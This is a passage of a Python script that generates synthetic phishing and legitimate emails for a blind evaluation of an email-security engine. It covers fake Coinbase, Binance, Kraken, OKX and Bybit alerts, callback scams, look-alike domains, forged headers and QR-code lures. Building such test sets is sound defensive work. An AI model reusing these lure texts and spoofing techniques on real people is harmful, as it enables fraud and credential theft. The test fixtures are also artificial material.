"""Blind evaluation set 40: crypto and fintech users worldwide, 2024-2026.

Customers of exchanges and wallets (Coinbase, Binance, Kraken, OKX, Bybit, MetaMask, Ledger, Trezor,
Trust Wallet, Phantom) and of neobanks and payment apps (Revolut, N26, Wise, Monzo, Cash App, Venmo,
Zelle, Nubank, Mercado Pago), in English, Spanish, Portuguese, German, French and Turkish: 50 attacks
(fake withdrawal / new-device / 2FA alerts, seed-phrase "verification", drainer airdrops, fake Ledger
firmware, KYC lures, Cash App/Venmo/Zelle business-upgrade scams, pig-butchering, abuse of Google Forms,
Typeform, Notion, GitHub Pages, IPFS, Firebase, malware posing as trading bots and wallet apps,
sextortion) and 25 legitimate messages (the genuine notices of the same services and personal mail
about payments between friends).

Run:
    cd /work/main && .venv/bin/python samples/tools/build_blind40_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import html as htmlmod
import re
import sys
from datetime import datetime, timedelta, timezone
from email import policy
from email.header import Header
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from files import (EICAR, docx, iso_image, lnk_shortcut, pdf, pe_stub, qr_png,  # noqa: E402
                   zip_archive)
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind40_manifest.txt"

# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b40-legit-venmo-request": "clean",
    # A link to a download, no program in the message: the engine names the lure phishing (URL_PROGRAM_DOWNLOAD's rule).
    "b40-phish-ledger-live-update-link": "phishing",
    "b40-phish-metamask-guard-github": "phishing",
}

ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
B64 = ALNUM + "+/"
HEX = "0123456789abcdef"


def rs(seed: str, n: int, alphabet: str = ALNUM) -> str:
    """A deterministic pseudo-random string."""
    out = ""
    i = 0
    while len(out) < n:
        digest = hashlib.sha256(f"{seed}:{i}".encode()).digest()
        out += "".join(alphabet[b % len(alphabet)] for b in digest)
        i += 1
    return out[:n]


def enc(value: str) -> str:
    """RFC 2047-encode a header value when it is not ASCII."""
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        return Header(value, "utf-8", maxlinelen=76).encode()


def addr(display: str, address: str) -> str:
    if not display:
        return address
    try:
        display.encode("ascii")
        if re.search(r'[(),.:;<>@\[\]"]', display):
            display = '"' + display.replace('"', '') + '"'
        return f"{display} <{address}>"
    except UnicodeEncodeError:
        return f"{Header(display, 'utf-8').encode()} <{address}>"


def when(stamp: str) -> datetime:
    return datetime.strptime(stamp, "%Y-%m-%d %H:%M:%S %z")


def rfc(dt: datetime) -> str:
    return format_datetime(dt)


def gmail_time(dt: datetime) -> str:
    u = dt.astimezone(timezone.utc)
    dst = 4 <= u.month <= 10 or (u.month == 3 and u.day >= 10) or (u.month == 11 and u.day < 3)
    off, name = (-7, "PDT") if dst else (-8, "PST")
    local = dt.astimezone(timezone(timedelta(hours=off)))
    return f"{format_datetime(local)} ({name})"


def dkim_sig(d: str, s: str, seed: str, dt: datetime, h: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type",
             extra: str = "", i: str = "") -> str:
    t = int(dt.timestamp()) - 3
    b = rs(seed + "dkim-b", 342, B64) + "=="
    bh = rs(seed + "dkim-bh", 43, B64) + "="
    folded = "\n\t ".join(b[k:k + 70] for k in range(0, len(b), 70))
    hl = "\n\t ".join(h[k:k + 66] for k in range(0, len(h), 66))
    ipart = f" i={i};" if i else ""
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\t s={s};{ipart} t={t};{extra}\n"
            f"\t h={hl};\n\t bh={bh};\n\t b={folded}")


RECEIVERS = {
    "gmail": "mx.google.com",
    "outlook": "outlook",
    "gmx": "mx.gmx.net",
    "quantleaf": "mx1.quantleaf.io",
    "ruizpaz": "mail.estudio-ruizpaz.es",
}


def mail(*, seed: str, rcv: str, to: str, frm: str, subject: str, date: str, msgid: str, ip: str, helo: str,
         mailfrom: str, body, rdns: str | None = None, spf: str = "pass", dkim: tuple | None = None,
         dmarc: str = "pass", pol: str = "REJECT", pre: list[str] | None = None, extra: list[str] | None = None,
         to_hdr: str | None = None, hfrom_dom: str | None = None, sign: bool = True) -> bytes:
    """One received message: receiving MX hop, Authentication-Results, sender hops, then the author headers."""
    dt = when(date)
    arrive = dt + timedelta(seconds=2 + int(rs(seed + "delay", 2, "0123456789")) % 9)
    if rcv != "gmail":
        arrive = arrive.astimezone(timezone.utc)
    rdns = rdns if rdns is not None else helo
    rdns_part = f"{rdns} [{ip}]" if rdns else f"unknown [{ip}]"
    mf_dom = mailfrom.split("@")[-1] if mailfrom else helo
    from_addr = re.search(r"<([^>]+)>", frm)
    from_dom = hfrom_dom or (from_addr.group(1) if from_addr else frm).split("@")[-1]
    lines: list[str] = []
    if rcv == "gmail":
        lines.append(f"Delivered-To: {to}")
        lines.append(f"Received: by 2002:a05:7010:{rs(seed + 'g1', 4, HEX)}:b0:{rs(seed + 'g2', 3, HEX)}:"
                     f"{rs(seed + 'g3', 4, HEX)}:{rs(seed + 'g4', 4, HEX)} with SMTP id {rs(seed + 'g5', 2, 'abcdefghijklmnopqrstuvwxyz')}"
                     f"{rs(seed + 'g6', 3, '0123456789')}csp{rs(seed + 'g7', 7, '0123456789')};\n        {gmail_time(arrive)}")
        lines.append(f"Received: from {helo} ({rdns_part})\n        by mx.google.com with ESMTPS id "
                     f"{rs(seed + 'gid', 13, HEX)}-{rs(seed + 'gid1', 10, HEX)}si{rs(seed + 'gid3', 7, '0123456789')}"
                     f".{int(rs(seed + 'gid2', 3, '0123456789')) % 400}.{arrive.astimezone(timezone.utc).strftime('%Y.%m.%d.%H.%M.%S')}\n"
                     f"        for <{to}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n"
                     f"        {gmail_time(arrive)}")
        parts = []
        if dkim:
            res, d, s = dkim
            parts.append(f"dkim={res} header.i=@{d} header.s={s} header.b={rs(seed + 'hb', 8, B64)}")
        spf_txt = {"pass": f"spf=pass (google.com: domain of {mailfrom} designates {ip} as permitted sender)",
                   "softfail": f"spf=softfail (google.com: domain of transitioning {mailfrom} does not designate {ip} as permitted sender)",
                   "fail": f"spf=fail (google.com: domain of {mailfrom} does not designate {ip} as permitted sender)",
                   "neutral": f"spf=neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain of {mailfrom})",
                   "none": f"spf=none (google.com: {mailfrom} does not designate permitted sender hosts)"}[spf]
        parts.append(f"{spf_txt} smtp.mailfrom={mailfrom}")
        if dmarc != "absent":
            sp = "QUARANTINE" if from_dom == "gmail.com" else pol
            parts.append(f"dmarc={dmarc} (p={pol} sp={sp} dis={'NONE' if dmarc == 'pass' or pol == 'NONE' else pol}) header.from={from_dom}")
        lines.append("Authentication-Results: mx.google.com;\n       " + ";\n       ".join(parts))
    elif rcv == "outlook":
        region = rs(seed + "reg", 1, "0123456789")
        lines.append(f"Received: from DU0PR0{region}MB{rs(seed + 'o1', 4, '0123456789')}.eurprd0{region}.prod.outlook.com\n"
                     f" (2603:10a6:10:{rs(seed + 'o2', 3, HEX)}::{rs(seed + 'o3', 2, HEX)}) by PA4PR0{region}MB{rs(seed + 'o4', 4, '0123456789')}"
                     f".eurprd0{region}.prod.outlook.com with HTTPS; {rfc(arrive + timedelta(seconds=1))}")
        lines.append(f"Received: from {helo} ({rdns_part}) by\n AMS0EPF0000019{rs(seed + 'o5', 1, 'ABCDEF')}.eurprd05.prod.outlook.com"
                     f" (10.167.16.{int(rs(seed + 'o6', 2, '0123456789')) + 100}) with Microsoft SMTP Server\n"
                     f" (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.8{rs(seed + 'o7', 3, '0123456789')}.1"
                     f" via Frontend Transport; {rfc(arrive)}")
        dk = "dkim=none (message not signed) header.d=none"
        if dkim:
            res, d, s = dkim
            dk = {"pass": f"dkim=pass (signature was verified) header.d={d}",
                  "fail": f"dkim=fail (body hash did not verify) header.d={d}"}.get(res, f"dkim={res} header.d={d}")
        comp = "pass reason=100" if dmarc == "pass" else ("fail reason=000" if dmarc == "fail" else "softpass reason=201")
        act = "none" if dmarc == "pass" or pol == "NONE" else ("quarantine" if pol == "QUARANTINE" else "oreject")
        dm = "dmarc=bestguesspass action=none" if dmarc == "absent" else f"dmarc={dmarc} action={act}"
        spf_ol = {"pass": "spf=pass (sender IP is", "softfail": "spf=softfail (sender IP is", "fail": "spf=fail (sender IP is",
                  "neutral": "spf=neutral (sender IP is", "none": "spf=none (sender IP is"}[spf]
        lines.append(f"Authentication-Results: {spf_ol} {ip})\n smtp.mailfrom={mf_dom}; {dk};{dm}\n header.from={from_dom};compauth={comp}")
        verdict = {"pass": "Pass", "softfail": "SoftFail", "fail": "Fail", "neutral": "Neutral", "none": "None"}[spf]
        lines.append(f"Received-SPF: {verdict} (protection.outlook.com: domain of {mf_dom} designates\n {ip} as permitted sender)"
                     f" receiver=protection.outlook.com; client-ip={ip};\n helo={helo}; pr=C")
    else:
        by = RECEIVERS[rcv]
        if rcv == "gmx":
            lines.append(f"Received: from {helo} ([{ip}]) by {by}\n (mxgmx1{rs(seed + 'x1', 2, '0123456789')} [212.227.15.9]) with ESMTPS (Nemesis) id "
                         f"1M{rs(seed + 'x2', 3, ALNUM)}-1t{rs(seed + 'x3', 8, ALNUM)}\n for <{to}>; {rfc(arrive)}")
        else:
            lines.append(f"Received: from {helo} ({rdns_part})\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
                         f"\t key-exchange X25519 server-signature RSA-PSS (2048 bits))\n\t(No client certificate requested)\n"
                         f"\tby {by} (Postfix) with ESMTPS id 4{rs(seed + 'p1', 9, 'BCDFGHJKLMNPQRSTVWXZbcdfghjklmnpqrstvwxz0123456789')}\n"
                         f"\tfor <{to}>; {rfc(arrive)}")
        parts = []
        if dkim:
            res, d, s = dkim
            parts.append(f"dkim={res} (2048-bit key; unprotected) header.d={d} header.i=@{d} header.a=rsa-sha256 "
                         f"header.s={s} header.b={rs(seed + 'hb', 8, B64)}")
        parts.append(f"spf={spf} smtp.mailfrom={mailfrom}")
        if dmarc != "absent":
            parts.append(f"dmarc={dmarc} (p={pol.lower()} dis={'none' if dmarc == 'pass' or pol == 'NONE' else pol.lower()}) header.from={from_dom}")
        authserv = "gmx.net" if rcv == "gmx" else by
        lines.append(f"Authentication-Results: {authserv};\n\t" + ";\n\t".join(parts))
    lines.append(f"Return-Path: <{mailfrom}>")
    for hop in pre or []:
        lines.append(hop)
    if dkim and sign:
        lines.append(dkim_sig(dkim[1], dkim[2], seed, dt))
    lines.append(f"From: {frm}")
    lines.append(f"To: {to_hdr or to}")
    lines.append(f"Subject: {enc(subject)}")
    lines.append(f"Date: {rfc(dt)}")
    lines.append(f"Message-ID: {msgid}")
    lines.extend(extra or [])
    return message("\n".join(lines), body)


def hop(frm: str, ip: str, by: str, date: str, secs: int = 1, with_: str = "ESMTPSA", id_: str = "", rdns: str | None = None,
        for_: str = "") -> str:
    """A sender-side Received line."""
    dt = when(date) + timedelta(seconds=secs)
    r = f"{rdns if rdns is not None else frm} [{ip}]" if ip else ""
    src = f"from {frm} ({r})" if ip else f"from {frm}"
    fo = f"\n\tfor <{for_}>" if for_ else ""
    return f"Received: {src}\n\tby {by} with {with_}{' id ' + id_ if id_ else ''}{fo};\n\t{rfc(dt)}"


def alt(plain: str, html: str, boundary: str) -> Multi:
    return Multi("alternative", boundary, [text(plain), text(html, "html")])


def mixed(boundary: str, *parts) -> Multi:
    return Multi("mixed", boundary, list(parts))


def strip_tags(fragment: str) -> str:
    fragment = re.sub(r'<a [^>]*href="([^"]+)"[^>]*>(.*?)</a>', r"\2 ( \1 )", fragment)
    fragment = re.sub(r"<br ?/?>", "\n", fragment)
    fragment = re.sub(r"<[^>]+>", "", fragment)
    return htmlmod.unescape(fragment)


def card(brand: str, color: str, heading: str, paras: list[str], button: tuple[str, str] | None = None,
         footer: list[str] | None = None, lang: str = "en", preheader: str = "", logo: str = "") -> tuple[str, str]:
    """A transactional HTML mail in the table layout most brand templates (and the kits copying them) use,
    and its text alternative."""
    pre = (f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all">{preheader}'
           "&#8199;&#65279;&#847;&#8199;&#65279;&#847;&#8199;&#65279;&#847;</div>\n") if preheader else ""
    logo_html = (f'<img src="{logo}" alt="{brand}" width="120" style="display:block;border:0">' if logo
                 else f'<span style="font-size:22px;font-weight:700;color:{color}">{brand}</span>')
    body = "\n".join(f'<p style="margin:0 0 16px 0;font-size:15px;line-height:22px;color:#1f2328">{p}</p>' for p in paras)
    btn = ""
    if button:
        btn = (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="margin:8px 0 24px 0"><tr>'
               f'<td style="background:{color};border-radius:6px"><a href="{button[1]}" target="_blank" '
               f'style="display:inline-block;padding:12px 28px;font-size:15px;font-weight:600;color:#ffffff;'
               f'text-decoration:none">{button[0]}</a></td></tr></table>')
    foot = "\n".join(f'<p style="margin:0 0 8px 0;font-size:12px;line-height:18px;color:#6e7781">{f}</p>'
                     for f in (footer or []))
    page = (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta charset="utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>{heading}</title>\n</head>\n'
            f'<body style="margin:0;padding:0;background:#f4f5f7">\n{pre}'
            f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#f4f5f7">'
            f'<tr><td align="center" style="padding:24px 12px">\n'
            f'<table role="presentation" width="560" cellpadding="0" cellspacing="0" border="0" '
            f'style="background:#ffffff;border-radius:8px;font-family:Helvetica,Arial,sans-serif">\n'
            f'<tr><td style="padding:28px 32px 8px 32px">{logo_html}</td></tr>\n'
            f'<tr><td style="padding:8px 32px 0 32px"><h1 style="margin:0 0 18px 0;font-size:21px;color:#1f2328">'
            f'{heading}</h1>\n{body}\n{btn}</td></tr>\n'
            f'<tr><td style="padding:16px 32px 28px 32px;border-top:1px solid #e6e8eb">\n{foot}\n</td></tr>\n'
            f"</table>\n</td></tr></table>\n</body>\n</html>\n")
    plain = heading + "\n\n" + "\n\n".join(strip_tags(p) for p in paras)
    if button:
        plain += f"\n\n{button[0]}: {button[1]}"
    if footer:
        plain += "\n\n--\n" + "\n".join(strip_tags(f) for f in footer)
    return plain + "\n", page


def card_alt(boundary: str, *args, **kwargs) -> Multi:
    plain, page = card(*args, **kwargs)
    return alt(plain, page, boundary)


def card_html_only(*args, **kwargs) -> Leaf:
    _, page = card(*args, **kwargs)
    return text(page, "html")


def esp_link(base: str, seed: str, n: int = 120) -> str:
    return base + rs(seed, n, ALNUM + "-_")


ENTRIES: list[tuple[str, str, str, str, bytes]] = []


def add(stem: str, kind: str, cat: str, description: str, raw: bytes) -> None:
    ENTRIES.append((stem, kind, cat, description, raw))


# --------------------------------------------------------------------------------------------------
# Recipients
DAN = "daniel.whitfield88@gmail.com"
KEV = "kevin.tran.sd@gmail.com"
LUC = "lucas.moreira.rj@gmail.com"
VAL = "valentina.ortega@outlook.com"
EMRE = "emre.aydin@hotmail.com"
CAM = "camille.durand@outlook.fr"
SOPH = "sophie.brenner@gmx.de"
LENA = "lena.hofmann@gmx.de"
JO = "j.okafor@quantleaf.io"
MARTA = "marta.ruiz@estudio-ruizpaz.es"


def attacks_exchanges() -> None:
    # 1 Coinbase withdrawal callback from Gmail
    s = "b40-phish-coinbase-withdrawal-callback"
    d = "2025-02-11 14:07:52 -0800"
    body = text(
        "Coinbase\n\nWithdrawal Request Received\n\n"
        "A withdrawal of 0.48291 BTC (approx. $46,912.40 USD) was requested from your Coinbase account.\n\n"
        "Destination: bc1qm7x3w0d2kq8r5yfj6u0n4ehc9zt2lv8sx0p3aa\n"
        "Request ID: CB-WD-7731-90428\n"
        "Device: Windows 11 / Chrome 132 - Lagos, NG\n"
        "Time: 02/11/2025 01:52 PM PST\n\n"
        "This withdrawal will be processed automatically within 30 minutes.\n\n"
        "If you did NOT authorize this request, contact Coinbase Support immediately to cancel it and secure "
        "your funds:\n\n    +1 (877) 310-5592  (24/7 Fraud Desk)\n\n"
        "Please have your Request ID ready. Do not reply to this email.\n\n"
        "Coinbase Security Team\n", encoding="7bit")
    add(s, "phish", "phishing",
        "Callback scam: fake Coinbase BTC withdrawal alert sent from a free Gmail account, urging the victim to call a "
        "'fraud desk' phone number to cancel it.",
        mail(seed=s, rcv="gmail", to=DAN, frm=addr("Coinbase Security", "cb.securitydesk0417@gmail.com"),
             subject="Withdrawal Request: 0.48291 BTC - Action Required", date=d,
             msgid="<CAJ8x2=pQv7m1kT0Wd5oZ3bq+Lr0aH9sY_4eFf2uGnX1KcB8QwA@mail.gmail.com>",
             ip="209.85.220.41", helo="mail-sor-f41.google.com", mailfrom="cb.securitydesk0417@gmail.com",
             dkim=("pass", "gmail.com", "20230601"), pol="NONE",
             pre=[hop("[102.89.34.117]", "", "smtp.gmail.com", d, 0, "HTTPSMTP", "", "")], body=body,
             to_hdr="undisclosed-recipients:;"))

    # 2 Coinbase new device, look-alike domain
    s = "b40-phish-coinbase-newdevice-lookalike"
    d = "2025-06-03 08:41:19 +0000"
    link = "https://coinbase-accountsecure.com/signin/verify?session=7f3a91c0d2&ref=newdevice"
    b = card_alt("----=_Part_771203_1289920131.1748940079", "coinbase", "#0052ff", "New device confirmation",
                 ["We noticed a sign-in to your Coinbase account from a device we don't recognise.",
                  "<b>Device:</b> Chrome on Windows<br><b>Location:</b> Kyiv, Ukraine<br><b>IP:</b> 185.220.101.47<br>"
                  "<b>Time:</b> June 3, 2025 08:36 UTC",
                  "If this was you, no action is needed. If you don't recognise this activity, lock your account now. "
                  "Unverified sessions will be allowed to withdraw after 24 hours."],
                 ("This wasn't me", link),
                 ["Coinbase, Inc. 100 Pine Street, Suite 1250, San Francisco, CA 94111",
                  "Need help? Visit our Help Center."], preheader="Was this you?")
    add(s, "phish", "phishing",
        "Fake Coinbase new-device alert from look-alike domain coinbase-accountsecure.com (passes its own SPF/DKIM); "
        "'This wasn't me' button leads to a credential-harvesting clone.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Coinbase", "no-reply@coinbase-accountsecure.com"),
             subject="New device confirmation", date=d, msgid="<20250603084119.4F1A2C0031@coinbase-accountsecure.com>",
             ip="45.134.26.90", helo="mail.coinbase-accountsecure.com", mailfrom="bounce@coinbase-accountsecure.com",
             dkim=("pass", "coinbase-accountsecure.com", "default"), pol="NONE",
             pre=[hop("localhost", "127.0.0.1", "mail.coinbase-accountsecure.com (Postfix)", d, 0, "ESMTP",
                      "4F1A2C0031", "localhost")], body=b))

    # 3 Binance 2FA reset, kit on Firebase, sent through Brevo (Turkish)
    s = "b40-phish-binance-2fa-firebase-tr"
    d = "2025-09-17 11:20:04 +0300"
    link = "https://binance-guvenlik-tr.web.app/2fa/reset?uid=38829104"
    b = card_alt("b1_3c4f1a0e9d", "BINANCE", "#f0b90b", "Google Authenticator sıfırlama talebi",
                 ["Değerli Kullanıcımız,",
                  "Hesabınız için <b>Google Authenticator (2FA) sıfırlama</b> talebi aldık. Talep sizin tarafınızdan "
                  "yapılmadıysa 12 saat içinde iptal etmeniz gerekmektedir; aksi halde 2FA devre dışı bırakılacak ve "
                  "çekim limitleriniz güncellenecektir.",
                  "Talep No: 2FA-TR-58810247"],
                 ("Talebi iptal et", link),
                 ["Binance asla telefonla şifrenizi sormaz.", "© 2025 Binance.com Tüm hakları saklıdır."], lang="tr")
    add(s, "phish", "phishing",
        "Turkish fake Binance 2FA-reset alert sent via Brevo from binance-destek.com; the 'cancel request' link goes to a "
        "Firebase-hosted (web.app) login clone.",
        mail(seed=s, rcv="outlook", to=EMRE, frm=addr("Binance", "guvenlik@binance-destek.com"),
             subject="[Binance] 2FA sıfırlama talebi - 12 saat içinde onaylayın", date=d,
             msgid="<202509170820.91773512604@smtp-relay.mailin.fr>",
             ip="185.41.28.117", helo="s117.sender.brevo.com", rdns="s117.sender.brevo.com",
             mailfrom="bounces-88120-77@binance-destek.com", dkim=("pass", "binance-destek.com", "brevo1"), pol="NONE",
             extra=["X-Mailer: Brevo", "X-sib-id: " + rs(s + "sib", 60, ALNUM + "-_")], body=b))

    # 4 Kraken Spanish withdrawal alert, kit on IPFS
    s = "b40-phish-kraken-retiro-ipfs-es"
    d = "2024-11-22 19:03:37 -0300"
    link = ("https://ipfs.io/ipfs/bafybeih5k2xq7ztd4mjwqv3l6r2o6tq3xq2c4aduwz5m3n7kdb2wxyv2ke/"
            "kraken-verificacion.html#valentina.ortega@outlook.com")
    b = text(f"""<html><body style="font-family:Arial,sans-serif;background:#f7f6fb">
<div style="max-width:520px;margin:20px auto;background:#fff;padding:30px;border-radius:10px">
<div style="color:#5741d9;font-size:26px;font-weight:bold">kraken</div>
<h2 style="color:#101010">Solicitud de retiro pendiente</h2>
<p>Hola,</p>
<p>Se ha solicitado un retiro de <b>2.150,00 USDT</b> (TRC20) desde tu cuenta de Kraken a la direcci&oacute;n
TQ7nE2wH8jX4bV9pC3mK1fR6sD5aL0yU2z.</p>
<p>Si no reconoces esta operaci&oacute;n, verifica tu identidad en los pr&oacute;ximos 60 minutos para cancelarla.</p>
<p style="text-align:center"><a href="{link}" style="background:#5741d9;color:#fff;padding:12px 30px;text-decoration:none;border-radius:6px">Cancelar retiro</a></p>
<p style="font-size:12px;color:#777">Payward, Inc. &middot; Este es un mensaje autom&aacute;tico, por favor no respondas.</p>
</div></body></html>
""", "html")
    add(s, "phish", "phishing",
        "Spanish fake Kraken pending-withdrawal alert from a compromised WordPress host; 'cancel withdrawal' link points "
        "to an IPFS-gateway phishing page prefilled with the victim's address.",
        mail(seed=s, rcv="outlook", to=VAL, frm=addr("Kraken Soporte", "wordpress@ferreteria-lomas.com.ar"),
             subject="Retiro pendiente de confirmación #KRK-551930", date=d,
             msgid="<" + rs(s + "m", 32, HEX) + "@ferreteria-lomas.com.ar>",
             ip="190.210.44.19", helo="vps-2218.donweb.com", rdns="vps-2218.donweb.com",
             mailfrom="wordpress@ferreteria-lomas.com.ar", spf="pass", dkim=None, dmarc="absent",
             extra=["X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
                    "X-PHP-Originating-Script: 1003:class-wp-mail-smtp.php"], body=b))

    # 5 OKX KYC update, Portuguese
    s = "b40-phish-okx-kyc-atualizacao-pt"
    d = "2025-04-08 10:14:55 -0300"
    link = "https://okx-verificacao.com.br/kyc/atualizar?id=BR-55281940"
    b = card_alt("=_d3a1c9e7b4f2", "OKX", "#000000", "Atualização cadastral obrigatória",
                 ["Olá, Lucas",
                  "Em conformidade com a Resolução BCB nº 520 sobre prestadores de serviços de ativos virtuais, "
                  "todos os usuários brasileiros devem atualizar seus dados de verificação (KYC) até <b>15/04/2025</b>.",
                  "Contas sem atualização terão depósitos, saques e negociações <b>suspensos temporariamente</b>."],
                 ("Atualizar meus dados", link),
                 ["Esta é uma mensagem automática da OKX. Não responda a este e-mail.", "© 2017-2025 OKX.COM"], lang="pt-BR")
    add(s, "phish", "phishing",
        "Portuguese OKX KYC-update lure citing a Brazilian central bank rule, from look-alike okx-verificacao.com.br; "
        "link to a clone collecting login, documents and selfie.",
        mail(seed=s, rcv="gmail", to=LUC, frm=addr("OKX Brasil", "compliance@okx-verificacao.com.br"),
             subject="Ação necessária: atualize seus dados até 15/04", date=d,
             msgid="<" + rs(s + "m", 24, HEX) + ".okx@okx-verificacao.com.br>",
             ip="177.234.152.64", helo="mail.okx-verificacao.com.br", mailfrom="compliance@okx-verificacao.com.br",
             dkim=("pass", "okx-verificacao.com.br", "mail"), pol="NONE", body=b))

    # 6 Bybit account restricted, Turkish
    s = "b40-phish-bybit-kisitlama-tr"
    d = "2025-12-02 16:45:10 +0300"
    link = "https://bybit-hesap.support/tr/dogrulama?token=a81c4e6f"
    b = text(f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial;background:#0b0e11;padding:20px">
<table width="100%" style="max-width:600px;margin:auto;background:#17181e;color:#eaecef;border-radius:8px"><tr><td style="padding:28px">
<div style="font-size:24px;font-weight:bold;color:#f7a600">BYBIT</div>
<p>Sayın kullanıcı,</p>
<p>Yeni düzenleyici gereklilikler (MASAK) kapsamında hesabınıza <b style="color:#f6465d">geçici kısıtlama</b> uygulanmıştır.
Varlıklarınıza yeniden erişmek için kimlik doğrulamanızı 48 saat içinde tamamlayınız.</p>
<p>Kısıtlama kodu: BYB-TR-0417</p>
<p><a href="{link}" style="background:#f7a600;color:#000;padding:11px 26px;border-radius:4px;text-decoration:none;font-weight:bold">Hesabı Doğrula</a></p>
<p style="font-size:12px;color:#848e9c">Bybit Türkiye Destek Ekibi</p>
</td></tr></table></body></html>
""", "html")
    add(s, "phish", "phishing",
        "Turkish 'account restricted under MASAK rules' Bybit lure from a look-alike .support domain; link to a "
        "verification page that harvests login and identity data.",
        mail(seed=s, rcv="outlook", to=EMRE, frm=addr("Bybit Türkiye", "destek@bybit-hesap.support"),
             subject="Hesabınız geçici olarak kısıtlandı", date=d,
             msgid="<" + rs(s + "m", 16, HEX) + "$" + rs(s + "n", 8, HEX) + "@bybit-hesap.support>",
             ip="94.156.232.41", helo="bybit-hesap.support", mailfrom="destek@bybit-hesap.support",
             dkim=("pass", "bybit-hesap.support", "x"), pol="NONE", body=b))

    # 7 Binance QR code for 2FA re-binding (PNG attachment)
    s = "b40-phish-binance-qr-2fa"
    d = "2025-03-19 07:58:02 +0000"
    qr = qr_png("https://bnb-auth-rebind.com/qr?c=GA4Z7Q")
    b = Multi("related", "----=_NextPart_000_0021_01DB98B2.5C6A1E30", [
        text(f"""<html><body style="font-family:Segoe UI,Arial;font-size:14px">
<p><b style="color:#f0b90b;font-size:20px">BINANCE</b></p>
<p>Dear user,</p>
<p>Due to the migration of our authentication servers, all users must re-bind Google Authenticator before
<b>21 March 2025</b>. Accounts that are not re-bound will be unable to withdraw.</p>
<p>Open the Binance app and scan the code below with your phone camera:</p>
<p><img src="cid:qr2fa@bnb" width="240" height="240" alt="QR"></p>
<p>Binance Security</p>
</body></html>
""", "html"),
        attachment("image/png", "qr.png", qr, inline=True, cid="qr2fa@bnb")])
    add(s, "phish", "phishing",
        "Quishing: fake Binance 'authenticator migration' notice whose only call to action is an inline QR code leading "
        "to bnb-auth-rebind.com; sent from a throw-away Outlook.com account.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Binance Security", "binance.authteam@outlook.com"),
             subject="Mandatory 2FA re-binding before 21 March", date=d,
             msgid="<DB9P194MB1534" + rs(s + "m", 6, "0123456789ABCDEF") + "@DB9P194MB1534.EURP194.PROD.OUTLOOK.COM>",
             ip="40.92.59.20", helo="EUR02-DB5-obe.outbound.protection.outlook.com",
             rdns="mail-db5eur02olkn2020.outbound.protection.outlook.com", mailfrom="binance.authteam@outlook.com",
             dkim=("pass", "outlook.com", "selector1"), pol="NONE",
             pre=[hop("DB9P194MB1534.EURP194.PROD.OUTLOOK.COM", "", "DB9P194MB1534.EURP194.PROD.OUTLOOK.COM", d, 0,
                      "mapi id 15.20.7982.033", "", "")], body=b))

    # 8 Coinbase Wallet on Webflow
    s = "b40-phish-coinbase-locked-webflow"
    d = "2024-08-27 12:31:40 -0400"
    link = "https://coinbase-wallet-unlock.webflow.io/"
    b = card_alt("000000000000a1c3f4062092b7e1", "Coinbase", "#0052ff", "Your account has been temporarily locked",
                 ["Hi,", "Our automated system flagged unusual trading activity and your account has been temporarily "
                  "locked. Sending and withdrawals are disabled.",
                  "To restore full access, please complete the account review. This only takes a few minutes."],
                 ("Start review", link), ["Coinbase Support &middot; Case #24082719"])
    add(s, "phish", "phishing",
        "Coinbase 'account locked' lure sent from a compromised small-business Gmail Workspace mailbox; link to a "
        "Webflow-hosted (webflow.io) phishing page.",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("Coinbase Support", "office@pinecrestdental-nj.com"),
             subject="Your Coinbase account has been temporarily locked", date=d,
             msgid="<CAF" + rs(s + "m", 40, ALNUM + "_-") + "@mail.gmail.com>",
             ip="209.85.220.69", helo="mail-sor-f69.google.com", mailfrom="office@pinecrestdental-nj.com",
             dkim=("pass", "pinecrestdental-nj.com", "google"), pol="NONE", body=b, to_hdr="undisclosed-recipients:;"))

    # 9 Coinbase PDF invoice callback
    s = "b40-phish-coinbase-invoice-callback-pdf"
    d = "2025-10-06 09:12:45 -0500"
    att = pdf(["COINBASE ONE - PREMIUM SUBSCRIPTION", "", "Invoice No: CB1-INV-2025-884102", "Date: 10/06/2025",
               "Customer: Kevin Tran", "", "Coinbase One Annual Plan (auto-renewal)        $ 599.99",
               "Priority Support Add-on                        $  49.00", "Total charged (BTC equivalent)        $ 648.99", "",
               "Payment will be deducted from your linked wallet within 24 hours.",
               "To cancel the renewal or request a refund, call our billing desk:",
               "+1 (844) 962-0173   Mon-Sun 24 hours", "", "Thank you for choosing Coinbase."], title="Invoice CB1-INV-2025-884102")
    b = mixed("----=_Part_5521_1401862266.1759759965",
              text("Hello Kevin,\n\nYour Coinbase One subscription has been renewed. Invoice attached.\n\n"
                   "If you didn't authorize this renewal please contact billing at +1 (844) 962-0173.\n\nRegards,\n"
                   "Coinbase Billing\n", encoding="7bit"),
              attachment("application/pdf", "CB1-INV-2025-884102.pdf", att))
    add(s, "phish", "phishing",
        "Callback invoice scam: fake Coinbase One renewal invoice PDF ($648.99) from a random domain with a 'billing desk' "
        "phone number to call for a refund.",
